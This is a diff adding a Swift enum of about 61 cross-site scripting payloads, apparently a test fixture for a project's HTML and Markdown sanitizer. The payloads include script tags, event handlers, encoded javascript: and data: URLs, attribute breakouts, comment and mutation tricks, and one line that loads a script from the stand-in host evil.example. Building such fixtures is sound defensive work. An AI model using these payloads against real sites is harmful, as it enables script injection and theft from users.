@@ -1,0 +1,78 @@
+/// Script-injection attempts of the families the published XSS cheat sheets list, written
+/// for this project: each is put into every place a content author controls.
+enum XSSPayloads {
+    static let all: [String] = [
+        // Script elements.
+        "<script>alert(1)</script>",
+        "<ScRiPt>alert(2)</sCrIpT>",
+        "<script src=//evil.example/x.js></script>",
+        // Event handlers on elements the allowlist keeps and on ones it does not.
+        "<img src=x onerror=alert(3)>",
+        "<img src=\"x\" onerror=\"alert(4)\">",
+        "<IMG SRC=x OnErRoR=alert(5)>",
+        "<img/src=x/onerror=alert(6)>",
+        "<svg onload=alert(7)>",
+        "<svg><animate onbegin=alert(8) attributeName=x dur=1s>",
+        "<svg><set attributeName=href to=javascript:alert(9)>",
+        "<body onload=alert(10)>",
+        "<details open ontoggle=alert(11)>",
+        "<a href=\"#\" onclick=\"alert(12)\">click</a>",
+        // Script URLs in raw HTML, with case, space, control character and reference tricks.
+        "<a href=\"javascript:alert(13)\">x</a>",
+        "<a href=\"JaVaScRiPt:alert(14)\">x</a>",
+        "<a href=\"  javascript:alert(15)\">x</a>",
+        "<a href=\"java\tscript:alert(16)\">x</a>",
+        "<a href=\"&#106;avascript:alert(17)\">x</a>",
+        "<a href=\"&#x6A;avascript&colon;alert(18)\">x</a>",
+        "<a href=\"java&Tab;script:alert(19)\">x</a>",
+        "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(20)>x</a>",
+        "<a href=\"vbscript:msgbox(21)\">x</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgyMik8L3NjcmlwdD4=\">x</a>",
+        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMjMpPg==\">",
+        // Script URLs in Markdown: inline links, images, autolinks, reference definitions.
+        "[md link](javascript:alert(24))",
+        "[md link](JAVASCRIPT&colon;alert(25))",
+        "<javascript:alert(26)>",
+        "![md image](javascript:alert(27))",
+        "[ref link][evil]",
+        // Frames, objects, forms, refreshes, base URLs, imports and styles.
+        "<iframe src=\"javascript:alert(28)\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(29)</script>\"></iframe>",
+        "<object data=\"javascript:alert(30)\"></object>",
+        "<embed src=\"javascript:alert(31)\">",
+        "<form action=\"javascript:alert(32)\"><input type=submit></form>",
+        "<button formaction=\"javascript:alert(33)\">go</button>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(34)\">",
+        "<base href=\"javascript:alert(35)//\">",
+        "<link rel=\"import\" href=\"data:text/html,<script>alert(36)</script>\">",
+        "<style>@import 'javascript:alert(37)';</style>",
+        "<div style=\"background:url(javascript:alert(38))\">x</div>",
+        "<div style=\"width: expression(alert(39))\">x</div>",
+        "<isindex action=javascript:alert(40) type=image>",
+        "<video poster=javascript:alert(41)><source></video>",
+        "<table background=\"javascript:alert(42)\"><td>x</td></table>",
+        "<svg><a xlink:href=\"javascript:alert(43)\"><text x=20 y=20>x</text></a></svg>",
+        // Breaking out of attributes, titles and scripts.
+        "\"><script>alert(44)</script>",
+        "'><img src=x onerror=alert(45)>",
+        "\" onmouseover=\"alert(46)",
+        "</title><script>alert(47)</script>",
+        "</script><script>alert(48)</script>",
+        "<a href=\"x\" title=\"</a><script>alert(49)</script>\">x</a>",
+        // Template and JSON lookalikes.
+        "{{site.title}}{{{page.content}}}{{> base}}",
+        "\\u003cscript\\u003ealert(50)\\u003c/script\\u003e",
+        "\u{2028}alert(51)\u{2029}",
+        // Comments that end earlier than they seem to, nested and unclosed tags.
+        "<!--<img src=x onerror=alert(52)>-->",
+        "<!--><img src=x onerror=alert(53)>-->",
+        "<!-- --!><img src=x onerror=alert(54)>",
+        "<div><p><b><i onclick=alert(55)>unclosed",
+        "<img src=x onerror=alert(56)//",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(57)>\">",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(58)>",
+        "<template><script>alert(59)</script></template>",
+        "<textarea></textarea><script>alert(60)</script>",
+        "&lt;script&gt;alert(61)&lt;/script&gt;",
+    ]
+}
